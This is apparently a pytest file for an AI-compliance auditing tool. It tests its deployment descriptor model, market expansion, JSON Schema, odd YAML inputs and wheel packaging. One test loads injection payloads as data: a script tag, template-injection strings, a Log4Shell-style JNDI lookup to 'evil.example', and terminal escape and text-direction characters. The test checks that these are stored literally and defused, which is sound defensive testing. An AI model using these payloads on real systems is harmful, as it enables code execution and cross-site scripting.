"""The descriptor model: unknown versus false, market expansion, the committed JSON Schema, the
inputs that look odd but are valid, and the wheel carrying the packs, templates and schema."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from pathlib import Path

import jsonschema
import pytest

from auditor.descriptor.facts import expand_markets, facts
from auditor.descriptor.load import load_deployment
from auditor.descriptor.model import Deployment
from auditor.descriptor.schema import json_schema, json_schema_text

REPO = Path(__file__).resolve().parents[2]
ACCEPTED = REPO / "tests" / "bad_inputs" / "accepted"


def _deployment(**sections: object) -> Deployment:
    return Deployment.model_validate(
        {"schema": "auditor/deployment/v1", "system": {"name": "t"}, **sections}
    )


# --- unknown versus false -------------------------------------------------------------------


def test_unanswered_questions_stay_none_and_absent_from_facts() -> None:
    deployment = _deployment(capabilities={"synthetic_media": {"generates": False}})
    assert deployment.capabilities.conversational is None
    assert deployment.capabilities.synthetic_media.depicts_real_people is None
    assert deployment.outputs is None and deployment.deployment is None
    activation = facts(deployment)
    assert activation["capabilities"] == {"synthetic_media": {"generates": False}}
    assert "conversational" not in activation["capabilities"]
    assert activation["deployment"] == {}  # sections exist so CEL can reach in; their keys do not
    assert "outputs" not in activation


def test_explicit_false_and_empty_list_are_kept() -> None:
    deployment = _deployment(
        capabilities={"conversational": False, "prohibited_practices": []}, data={"datasets": []}
    )
    activation = facts(deployment)
    assert activation["capabilities"] == {"conversational": False, "prohibited_practices": []}
    assert activation["data"] == {"datasets": []}


def test_every_optional_field_defaults_to_none() -> None:
    """No model field may default to False, [] or 0: that would turn 'unknown' into 'no'."""
    from pydantic import BaseModel

    seen: set[type] = set()

    def visit(model: type[BaseModel]) -> None:
        if model in seen:
            return
        seen.add(model)
        for name, field in model.model_fields.items():
            if not field.is_required():
                assert field.default is None, (
                    f"{model.__name__}.{name} defaults to {field.default!r}"
                )
            for inner in _models_in(field.annotation):
                visit(inner)

    visit(Deployment)
    assert len(seen) > 10


def _models_in(annotation: object) -> list[type]:
    import typing

    from pydantic import BaseModel

    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return [annotation]
    return [m for arg in typing.get_args(annotation) for m in _models_in(arg)]


# --- markets ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        (["DE"], ["DE", "EU"]),
        (["FR", "IT", "EU"], ["FR", "IT", "EU"]),
        (["US-CA"], ["US-CA", "US"]),
        (["US-NY-NYC"], ["US-NY-NYC", "US", "US-NY"]),
        (["CN"], ["CN"]),
        (["NO", "CH", "GB"], ["NO", "CH", "GB"]),  # EEA/EFTA and the UK are not the EU
        (["DE", "DE"], ["DE", "EU"]),
    ],
)
def test_market_expansion(given: list[str], expected: list[str]) -> None:
    assert expand_markets(given) == expected


def test_facts_expand_markets_but_the_model_keeps_what_was_written() -> None:
    deployment = _deployment(deployment={"markets": ["NL", "US-NY-NYC"]})
    assert deployment.deployment.markets == ["NL", "US-NY-NYC"]
    assert set(facts(deployment)["deployment"]["markets"]) == {
        "NL",
        "EU",
        "US-NY-NYC",
        "US",
        "US-NY",
    }


# --- the JSON Schema --------------------------------------------------------------------------


def test_committed_schema_is_in_sync_with_the_model() -> None:
    committed = (REPO / "schemas" / "deployment-v1.json").read_text(encoding="utf-8")
    assert committed == json_schema_text(), (
        "regenerate: .venv/bin/auditor schema > schemas/deployment-v1.json"
    )


def test_schema_command_prints_the_schema(run_cli) -> None:
    result = run_cli("schema")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == json_schema()


def test_samples_validate_against_the_published_schema(sample_descriptors: list[Path]) -> None:
    """What an editor (yaml-language-server) checks must agree with what auditor accepts."""
    validator = jsonschema.Draft202012Validator(json_schema())
    for path in sample_descriptors:
        _, loaded = load_deployment(path)
        document = json.loads(json.dumps(loaded.data, default=str))  # dates as ISO strings
        errors = [
            f"{'.'.join(map(str, e.path))}: {e.message}" for e in validator.iter_errors(document)
        ]
        assert not errors, f"{path}: {errors}"


# --- odd but valid inputs ---------------------------------------------------------------------


def test_hostile_strings_load_unchanged() -> None:
    deployment, _ = load_deployment(ACCEPTED / "hostile_strings.yaml")
    assert deployment.system.name == "<script>alert('x')</script> {{ 7*7 }} {% raw %}"
    assert deployment.system.version == "${jndi:ldap://evil.example/a}"
    assert "\x1b[2J" in deployment.system.description and "\u202e" in deployment.system.description
    assert "\x00" in deployment.system.description
    assert (
        deployment.controls["human_oversight"].notes
        == "{{ config.__class__.__init__.__globals__ }}"
    )
    assert deployment.extensions == {"<b>key</b>": "{{ 7*7 }}"}


def test_hostile_strings_are_shown_literally_and_defused_on_the_terminal(run_cli) -> None:
    result = run_cli("check", ACCEPTED / "hostile_strings.yaml")
    assert result.returncode == 0, result.stderr
    assert "<script>alert('x')</script> {{ 7*7 }}" in result.stdout  # not rendered, not 49
    assert "49" not in result.stdout.split("system:")[1].splitlines()[0]
    assert "\x1b" not in result.stdout + result.stderr
    assert "\u202e" not in result.stdout + result.stderr


def test_norway_stays_a_market_and_yes_no_still_answer() -> None:
    deployment, _ = load_deployment(ACCEPTED / "norway_and_yes_no.yaml")
    assert deployment.deployment.markets == ["NO", "SE", "EU"]
    assert deployment.deployment.minors_may_use is False
    assert deployment.capabilities.conversational is True


def test_exponents_without_sign_are_numbers(tmp_path: Path) -> None:
    """YAML 1.1 reads 3.0e23 as a string; the spec's example writes it that way."""
    path = tmp_path / "d.yaml"
    path.write_text(
        "schema: auditor/deployment/v1\nsystem: {name: t, version: 2026.11.0}\nmodel: {training_compute_flops: 3.0e23}\n"
    )
    deployment, loaded = load_deployment(path)
    assert loaded.data["model"]["training_compute_flops"] == 3.0e23
    assert deployment.system.version == "2026.11.0"


@pytest.mark.parametrize(
    "name", ["utf16_bom.yaml", "utf8_bom.yaml", "crlf.yaml", "merge_keys.yaml"]
)
def test_other_encodings_and_merge_keys_are_accepted(name: str) -> None:
    deployment, _ = load_deployment(ACCEPTED / name)
    assert deployment.system.name in ("小溪助手", "Prévia", "HireRank")


def test_a_json_descriptor_is_read_too() -> None:
    """JSON is YAML: teams that generate descriptors from code may write JSON."""
    deployment, _ = load_deployment(ACCEPTED / "descriptor_as_json.json")
    assert deployment.model.training_compute_flops == 3.0e23
    assert str(deployment.deployment.launch_date) == "2026-03-01"
    assert deployment.capabilities.conversational is False


def test_merge_keys_are_expanded() -> None:
    deployment, _ = load_deployment(ACCEPTED / "merge_keys.yaml")
    assert deployment.controls["logging"].owner == "Recruiting Ops"
    assert deployment.controls["logging"].log_retention_months == 6


def test_accepted_corpus_checks_with_exit_0(run_cli) -> None:
    result = run_cli("check", *sorted(ACCEPTED.iterdir()))
    assert result.returncode == 0, result.stderr


# --- packaging --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("wheel")
    # --no-build-isolation: hatchling is in the venv, so the build needs no network.
    subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "wheel",
            "--no-deps",
            "--no-build-isolation",
            "-q",
            "-w",
            str(out),
            str(REPO),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    (built,) = out.glob("auditor-*.whl")
    return built


def test_wheel_ships_packs_templates_and_schema(wheel: Path) -> None:
    names = set(zipfile.ZipFile(wheel).namelist())
    assert "auditor/_data/schemas/deployment-v1.json" in names
    assert any(n.startswith("auditor/_data/rulesets/") and n.endswith("pack.yaml") for n in names)
    assert any(n.startswith("auditor/_data/templates/") for n in names)
    for pack in ("cn-genai", "eu-ai-act", "us-ai"):
        assert f"auditor/_data/rulesets/{pack}/pack.yaml" in names
    assert not any(n.startswith(("samples/", "tests/", "auditor/_data/samples")) for n in names)


def test_installed_wheel_finds_its_data_outside_the_checkout(wheel: Path, tmp_path: Path) -> None:
    """Run from the unpacked wheel in a folder with no checkout around it."""
    site = tmp_path / "site"
    zipfile.ZipFile(wheel).extractall(site)
    sample = REPO / "samples" / "eu-cv-screening" / "deployment.yaml"
    env = {"PYTHONPATH": str(site), "PYTHONSAFEPATH": "1"}
    probe = subprocess.run(
        [
            sys.executable,
            "-c",
            "import auditor, auditor.resources as r; print(auditor.__file__); print(r.data_dir('rulesets'))",
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={**_clean_env(), **env},
        timeout=60,
    )
    assert probe.returncode == 0, probe.stderr
    module_file, rulesets = probe.stdout.splitlines()
    assert module_file.startswith(str(site)) and rulesets.startswith(
        str(site / "auditor" / "_data")
    )
    schema = subprocess.run(
        [sys.executable, "-m", "auditor", "schema"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={**_clean_env(), **env},
        timeout=60,
    )
    assert schema.returncode == 0 and json.loads(schema.stdout) == json_schema()
    check = subprocess.run(
        [sys.executable, "-m", "auditor", "check", str(sample)],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env={**_clean_env(), **env},
        timeout=120,
    )
    assert check.returncode in (0, 1), check.stderr  # 0 or 1 (findings), never a missing-data crash
    assert "Traceback" not in check.stderr


def _clean_env() -> dict[str, str]:
    import os

    return {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONHOME")}
